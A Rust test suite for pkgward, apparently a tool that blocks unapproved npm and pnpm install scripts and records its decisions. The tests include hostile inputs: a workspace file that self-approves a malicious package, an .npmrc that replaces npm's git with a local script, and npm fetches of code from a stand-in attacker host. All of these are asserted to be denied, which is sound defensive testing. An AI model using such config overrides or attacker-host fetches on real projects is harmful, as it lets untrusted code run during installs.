/// approved packages of pnpm's virtual store with one `pnpm rebuild`, with
/// pnpm's allow list naming exactly the approved versions — a project's
/// own `allowBuilds` cannot add one — then the project's own scripts on a
/// plain install; the unapproved ones are listed and recorded.
#[test]
fn pnpm_runs_approved_scripts_through_pnpm_rebuild() {
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-scr-dep\", \"npm:@pwscr/native@^1.2\", \"npm:pw-app@local\"]\n",
    );
    std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join("pnpm")).unwrap();
    std::fs::write(
        g.sb.work.join("package.json"),
        r#"{"name":"pw-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/root-postinstall', 'ran')\""}}"#,
    )
    .unwrap();
    // The project tries to approve the evil package itself.
    std::fs::write(
        g.sb.work.join("pnpm-workspace.yaml"),
        "allowBuilds:\n  pw-scr-evil: true\ndangerouslyAllowAllBuilds: true\n",
    )
    .unwrap();
    let o = pnpm(&g, &["add", "pw-scr-evil", "@pwscr/native"]);
    let err = format!("{}{}", text(&o.stdout), text(&o.stderr));
    assert!(o.status.success(), "pnpm failed: {err}");
    assert_eq!(
        g.sb.marker("dep-postinstall").as_deref(),
        Some("ran\n"),
        "{err}"
    );
    let native = node(&g, "console.log(require('@pwscr/native'))");
    assert_eq!(
        text(&native.stdout).trim(),
        "native ok",
        "{}",
        text(&native.stderr)
    );
    no_effects_of_evil(&g);
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    let recs = scripts(&g);
    let dep = recs.iter().find(|r| r["package"] == "pw-scr-dep").unwrap();
    assert_eq!(dep["decision"], "approved");
    assert_eq!(dep["ran"], true);
    assert_eq!(dep["exit_code"], 0);
    let runner = dep["runner"].to_string();
    assert!(runner.contains("\"pnpm\",\"rebuild\""), "{runner}");
    assert!(!runner.contains("pw-scr-evil"), "{runner}");
    let evil = recs.iter().find(|r| r["package"] == "pw-scr-evil").unwrap();
    assert_eq!(evil["decision"], "deny");
    assert_eq!(evil["ran"], false);
    assert_eq!(g.sb.marker("root-postinstall"), None);

    // A plain install: the project's postinstall runs; nothing is rebuilt again.
    let o = pnpm(&g, &["install"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("root-postinstall").as_deref(), Some("ran"));
    let inv = g.last_invocation();
    let second: Vec<serde_json::Value> = scripts(&g)
        .into_iter()
        .filter(|r| r["invocation_id"] == inv["invocation_id"])
        .collect();
    assert_eq!(second.len(), 1, "{second:#?}");
    assert_eq!(second[0]["package"], "pw-app");
    no_effects_of_evil(&g);
}

/// `pnpm dlx` of an unapproved package is decided by policy before it runs.
#[test]
fn pnpm_dlx_of_an_unapproved_package_is_denied() {
    let g = setup("");
    std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join("pnpm")).unwrap();
    let o = pnpm(&g, &["dlx", "pw-scr-evil"]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
    no_effects_of_evil(&g);
}

#[test]
fn a_package_claiming_an_approved_name_is_decided_by_what_npm_installed() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep\"]\n");
    let o = g.npm(&["install", "pw-scr-spoof"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(
        g.sb.marker("spoof-postinstall"),
        None,
        "the spoofing package's script ran"
    );
    let err = text(&o.stderr);
    assert!(
        err.contains("pkgward approve npm:pw-scr-spoof@1.0.0"),
        "{err}"
    );
    let recs = scripts(&g);
    let r = recs
        .iter()
        .find(|r| r["path"] == "node_modules/pw-scr-spoof")
        .unwrap_or_else(|| panic!("{recs:?}"));
    assert_eq!(r["package"], "pw-scr-spoof");
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["ran"], false);
}

#[test]
fn approved_code_cannot_ask_the_script_broker_for_more() {
    // Unconfined (the sandbox would keep it from other processes'
    // environments), so that the broker's own check is what stops it.
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-scr-dep\", \"npm:pw-scr-sneak\"]\n\
         [sandbox]\nconfine_approved = false\n",
    );
    let o = g.npm(&["install", "pw-scr-sneak"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
    assert_eq!(g.sb.marker("sneak-postinstall").as_deref(), Some("ran\n"));
    // It found the broker (so the refusal below is the broker's)…
    assert_eq!(g.sb.marker("sneak-found").as_deref(), Some("yes"));
    // …and was refused: nothing ran, the client failed.
    assert_eq!(g.sb.marker("sneak-ran"), None);
    assert_eq!(g.sb.marker("sneak-status").as_deref(), Some("70"));
    // Posing as npx's command gets no shell either: the broker is asked
    // first, and refuses.
    assert_eq!(g.sb.marker("sneak-npx-ran"), None);
    assert_eq!(g.sb.marker("sneak-npx-status").as_deref(), Some("70"));
    // The approved scripts ran inside npm's own install: one npm process.
    let npm_runs = g
        .audit()
        .into_iter()
        .filter(|r| r["kind"] == "invocation" && r["tool"] == "npm")
        .count();
    assert_eq!(npm_runs, 1);
}

#[test]
fn without_the_broker_npm_runs_with_scripts_off_and_the_approved_ones_after() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep\"]\n");
    // A temp directory whose path is too long for a Unix socket: the
    // broker cannot listen, so the shim falls back.
    let long = g.sb.root().join("t".repeat(120));
    std::fs::create_dir_all(&long).unwrap();
    let long = long.to_str().unwrap().to_string();
    let o = g.npm(
        &["install", "pw-scr-evil", "pw-scr-spoof"],
        &[("TMPDIR", long.as_str())],
    );
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
    no_effects_of_evil(&g);
    // The package claiming the approved name is decided by what was
    // installed there here too.
    assert_eq!(g.sb.marker("spoof-postinstall"), None);
    assert!(
        err.contains("pkgward approve npm:pw-scr-spoof@1.0.0"),
        "{err}"
    );
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    let recs = scripts(&g);
    let dep = recs.iter().find(|r| r["package"] == "pw-scr-dep").unwrap();
    assert_eq!(dep["ran"], true);
    assert_eq!(dep["runner"][1], "rebuild", "{dep}");
}

#[test]
fn an_approved_script_that_fails_fails_the_install_as_with_npm() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-fail\"]\n");
    let o = g.npm(&["install", "pw-scr-fail"], &[]);
    let err = text(&o.stderr);
    assert!(!o.status.success(), "{err}");
    // npm's own report of the failed script, with the script's output.
    assert!(err.contains("failing"), "{err}");
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-scr-fail").unwrap();
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 3);
    // The shim returns npm's own exit code.
    let exit = g
        .audit()
        .into_iter()
        .rfind(|r| r["kind"] == "exit")
        .unwrap();
    assert_eq!(exit["exit_code"].as_i64(), o.status.code().map(i64::from));
}

/// A signal sent to the process npm started for a script (npm forwards
/// SIGTERM and SIGINT to its scripts' shells this way) reaches the script
/// pkgward runs for it, and the script's end is npm's to report.
#[test]
fn a_signal_to_the_script_shell_reaches_the_approved_script() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-term\"]\n");
    let reg = shared().npm_url();
    let child =
        g.sb.command("npm", &[g.sb.npm_env(&reg), g.pkgward_env()])
            .args(["install", "pw-scr-term"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
    let started = std::time::Instant::now();
    while g.sb.marker("term-started").is_none() {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(120),
            "the script never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    // The script shell npm started: `pkgward -c …` in this sandbox.
    let client = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .find(|pid| {
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let env = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
            let words: Vec<&[u8]> = cmd.split(|b| *b == 0).collect();
            words.get(1) == Some(&&b"-c"[..])
                && words.get(2) == Some(&&b"exec node term.js"[..])
                && env
                    .windows(g.sb.root().as_os_str().len())
                    .any(|w| w == g.sb.root().as_os_str().as_encoded_bytes())
        })
        .expect("npm's script shell");
    // SAFETY: kill(2) to a process of this test's own tree.
    unsafe { libc::kill(client, libc::SIGTERM) };
    let out = child.wait_with_output().unwrap();
    let err = text(&out.stderr);
    assert_eq!(g.sb.marker("term-got").as_deref(), Some("SIGTERM"), "{err}");
    assert!(!out.status.success(), "{err}");
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-scr-term").unwrap();
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 7, "{r}");
}

/// `npx` of an approved package: npm installs it into its npx cache and
/// runs its postinstall through pkgward, confined to that directory; the
/// bin then runs as the user's command, its output and exit code as they are.
#[test]
fn npx_builds_an_approved_package_confined_and_runs_its_bin() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello", "world"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npx failed: {err}");
    // The bin found what the postinstall built in its own directory.
    assert_eq!(
        text(&o.stdout),
        "pw-scr-npx says built hello world\n",
        "{err}"
    );
    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
    // Confined: no write outside, nothing reached the listener.
    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
    no_effects_of_evil(&g);
    assert!(!err.contains("install-time code not run"), "{err}");
    let inv = g.last_invocation();
    let recs = scripts(&g);
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-npx")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["invocation_id"], inv["invocation_id"]);
    assert_eq!(r["decision"], "approved");
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 0);
    assert_eq!(r["path"], "node_modules/pw-scr-npx");
    // The command is not install-time code: one record, the postinstall.
    assert_eq!(recs.len(), 1, "{recs:#?}");
    // The bin's exit code is npx's.
    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "exit3"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    // `npm init NAME` is `npm exec create-NAME`: built the same way.
    let g = setup("[scripts]\nallow = [\"npm:create-pw-scr\", \"npm:pw-scr-npx\"]\n");
    let o = g.npm(&["init", "--yes", "pw-scr"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    // (After npm's own banner, which `npm init` prints.)
    let out = text(&o.stdout);
    assert!(out.ends_with("\ninit says built\n"), "{out}");
    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
}

/// `npx` of an approved package that depends on an unapproved one: the
/// dependency's postinstall does not run, and is listed and recorded.
#[test]
fn npx_does_not_run_an_unapproved_dependency_and_lists_it() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx-app\"]\n");
    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx-app"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npx failed: {err}");
    assert_eq!(text(&o.stdout), "app ran\n", "{err}");
    no_effects(&g);
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    assert!(
        err.contains("pkgward approve npm:pw-scr-dep@1.0.0"),
        "{err}"
    );
    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
    let inv = g.last_invocation();
    let recs = scripts(&g);
    let evil = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-evil")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
    assert_eq!(evil["decision"], "deny");
    assert_eq!(evil["ran"], false);
}

/// `npm install -g`: the approved package's postinstall runs confined to
/// its own directory under the global prefix; the unapproved one's does not
/// run, and is listed and recorded.
#[test]
fn a_global_install_builds_the_approved_package_only() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
    let prefix = g.sb.root().join("global");
    let p = prefix.to_str().unwrap();
    let o = g.npm(
        &["install", "-g", "--prefix", p, "pw-scr-npx", "pw-scr-evil"],
        &[],
    );
    let err = text(&o.stderr);
    assert!(o.status.success(), "npm failed: {err}");
    let pkg = prefix.join("lib/node_modules/pw-scr-npx");
    assert!(pkg.join("built.js").is_file(), "{err}");
    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
    no_effects(&g);
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    assert!(!err.contains("approve npm:pw-scr-npx"), "{err}");
    let bin = std::process::Command::new(prefix.join("bin/pw-scr-npx"))
        .arg("hi")
        .output()
        .unwrap();
    assert_eq!(text(&bin.stdout), "pw-scr-npx says built hi\n");
    let inv = g.last_invocation();
    let recs = scripts(&g);
    let find = |n: &str| {
        recs.iter()
            .find(|r| r["package"] == n)
            .unwrap_or_else(|| panic!("{recs:#?}"))
    };
    let (ok, evil) = (find("pw-scr-npx"), find("pw-scr-evil"));
    assert_eq!(ok["invocation_id"], inv["invocation_id"]);
    assert_eq!(ok["decision"], "approved");
    assert_eq!(ok["ran"], true);
    assert_eq!(ok["path"], "node_modules/pw-scr-npx");
    assert_eq!(evil["decision"], "deny");
    assert_eq!(evil["ran"], false);
}

/// The user's `script-shell` (`.npmrc` or flag) runs the command `npx`
/// runs, as without pkgward, and never an install script; the command
/// sees the user's setting, not pkgward's broker.
#[test]
fn npx_runs_its_command_with_the_users_script_shell_only() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
    let shell = g.sb.root().join("user-shell");
    std::fs::write(
        &shell,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$2\" >> '{}/user-shell'\nexec /bin/sh \"$@\"\n",
            g.sb.markers.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&shell, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::fs::write(
        g.sb.work.join(".npmrc"),
        format!("script-shell={}\n", shell.display()),
    )
    .unwrap();
    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "pw-scr-npx says built hello\n");
    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
    assert_eq!(
        g.sb.marker("user-shell").as_deref(),
        Some("'pw-scr-npx' hello\n")
    );
    // The command's environment: the user's shell, no broker.
    let probe = "echo \"$npm_config_script_shell|${PKGWARD_NPM_SCRIPT_BROKER:-none}|${npm_config_ignore_scripts:-unset}\"";
    let o = g.npm(
        &["exec", "--yes", "--package", "pw-scr-npx", "-c", probe],
        &[],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), format!("{}|none|unset\n", shell.display()));
    // The flag, without the .npmrc.
    std::fs::remove_file(g.sb.work.join(".npmrc")).unwrap();
    let flag = format!("--script-shell={}", shell.display());
    let o = g.npm_tool("npx", &[flag.as_str(), "--yes", "pw-scr-npx", "flag"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "pw-scr-npx says built flag\n");
    let log = g.sb.marker("user-shell").unwrap_or_default();
    assert!(log.ends_with("'pw-scr-npx' flag\n"), "{log}");
    assert!(!log.contains("build.js"), "{log}");
    let o = g.npm_tool(
        "npx",
        &[
            flag.as_str(),
            "--yes",
            "--package",
            "pw-scr-npx",
            "-c",
            probe,
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), format!("{}|none|unset\n", shell.display()));
    // No command: npm runs its script shell as the script; that is the
    // user's shell (here reading its commands from stdin), not pkgward.
    let reg = shared().npm_url();
    let mut child =
        g.sb.command(g.shims.join("npx"), &[g.sb.npm_env(&reg), g.pkgward_env()])
            .arg(flag.as_str())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
    std::io::Write::write_all(
        &mut child.stdin.take().unwrap(),
        b"echo interactive-$((1+2))\n",
    )
    .unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("interactive-3"),
        "{}",
        text(&o.stdout)
    );
    let log = g.sb.marker("user-shell").unwrap_or_default();
    // `user-shell -c user-shell`, as npm would start it.
    assert!(log.contains(&format!("\n{}\n", shell.display())), "{log}");
}

/// npm commands that install under another name or after options that
/// take a value: npm finds its command past `--loglevel warn`, `prune` and
/// `audit fix` reify the project's tree, `edit` rebuilds what it opened.
/// Each is decided as an install: nothing unapproved runs.
#[test]
fn commands_that_install_under_other_names_run_no_unapproved_scripts() {
    let g = setup("");
    g.sb.write(
        "package.json",
        r#"{"name":"pw-app","version":"0.1.0","private":true,"dependencies":{"pw-scr-evil":"^1.0.0"}}"#,
    );
    let cache = g.sb.root().join("other-cache");
    let cache = cache.to_str().unwrap();
    let installed = || {
        g.sb.work
            .join("node_modules/pw-scr-evil/package.json")
            .exists()
    };
    let runs: &[&[&str]] = &[
        &["--loglevel", "warn", "install"],
        &["--cache", cache, "ci"],
        &["-C", ".", "prune"],
        &["audit", "fix"],
        &["edit", "pw-scr-evil", "--editor", "true"],
        &["pru"],
    ];
    for args in runs {
        if args[0] != "edit" {
            std::fs::remove_dir_all(g.sb.work.join("node_modules")).ok();
        }
        let o = g.npm(args, &[]);
        assert!(
            installed(),
            "npm {args:?} installed nothing: {}",
            text(&o.stderr)
        );
        no_effects(&g);
        let id = g.last_invocation()["invocation_id"].clone();
        assert!(
            scripts(&g).iter().any(|r| r["invocation_id"] == id
                && r["package"] == "pw-scr-evil"
                && r["decision"] == "deny"),
            "npm {args:?}: no denial recorded"
        );
    }
}

/// npm commands that fetch what they name (`pack`, `cache add`, `diff
/// --diff`, `view`, `publish`): a git repository or tarball URL the policy
/// does not approve is denied before npm runs, whichever options come first.
#[test]
fn commands_that_fetch_what_they_name_are_held_to_the_registries() {
    let g = setup("");
    let host = support::guard::evil().base_url();
    let git = format!("git+{host}/pw/x.git");
    let tgz = format!("{host}/pw/x-1.0.0.tgz");
    let diff = format!("--diff={git}");
    let runs: Vec<Vec<&str>> = vec![
        vec!["pack", &git],
        vec!["--loglevel", "warn", "pack", &tgz],
        vec!["cache", "add", &git],
        vec!["diff", &diff],
        vec!["view", &tgz],
        vec!["publish", &git, "--dry-run"],
    ];
    for args in &runs {
        let o = g.npm(args, &[]);
        assert_eq!(
            o.status.code(),
            Some(77),
            "npm {args:?}: {}",
            text(&o.stderr)
        );
    }
    assert_eq!(support::guard::evil().connections().len(), 0);
}

/// `npm pack` of a package it fetches (here a directory) runs that
/// package's `prepare`: it is decided like an install's scripts (a
/// directory on the disk: as local code, `npm:NAME@local`).
#[test]
fn pack_of_a_named_package_runs_no_unapproved_prepare() {
    let g = setup("");
    let dir = g.sb.root().join("pw-prep");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("package.json"),
        r#"{"name":"pw-prep","version":"1.0.0","scripts":{"prepare":"node prep.js"}}"#,
    )
    .unwrap();
    std::fs::write(dir.join("prep.js"), js_marker("prep-prepare")).unwrap();
    let o = g.npm(&["pack", dir.to_str().unwrap()], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npm failed: {err}");
    assert_eq!(g.sb.marker("prep-prepare"), None, "prepare ran");
    assert!(err.contains("pkgward approve npm:pw-prep@local"), "{err}");
    // It says what happened: packing, not an install.
    assert!(err.contains("`npm pack` runs to pack a package"), "{err}");
    assert!(!err.contains("install"), "{err}");
    assert!(scripts(&g)
        .iter()
        .any(|r| r["package"] == "pw-prep" && r["script"] == "prepare" && r["decision"] == "deny"));
}

/// A repository's `.npmrc` naming the program npm runs for git
/// dependencies (`git = ./tool`) would have npm run the repository's code
/// outside any script decision: denied before npm runs.
#[test]
fn a_project_npmrc_cannot_replace_git() {
    let g = setup("");
    let repo = g.sb.root().join("pw-gitdep");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join("package.json"),
        r#"{"name":"pw-gitdep","version":"1.0.0"}"#,
    )
    .unwrap();
    let git = |args: &[&str]| {
        let o = std::process::Command::new("git")
            .args(["-c", "user.email=t@example.com", "-c", "user.name=t"])
            .args(args)
            .current_dir(&repo)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o.stderr));
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-qm", "x"]);
    let tool = g.sb.write(
        "tools/git",
        format!(
            "#!/bin/sh\necho ran > '{}/npmrc-git'\nexec git \"$@\"\n",
            g.sb.markers.display()
        ),
    );
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    g.sb.write(".npmrc", "git=./tools/git\n");
    g.sb.write(
        "package.json",
        format!(
            r#"{{"name":"pw-app","version":"0.1.0","private":true,"dependencies":{{"pw-gitdep":"git+file://{}"}}}}"#,
            repo.display()
        ),
    );
    let o = g.npm(&["install"], &[]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(77), "{err}");
    assert!(err.contains("sets git = ./tools/git"), "{err}");
    assert_eq!(g.sb.marker("npmrc-git"), None, "the project's git ran");
}
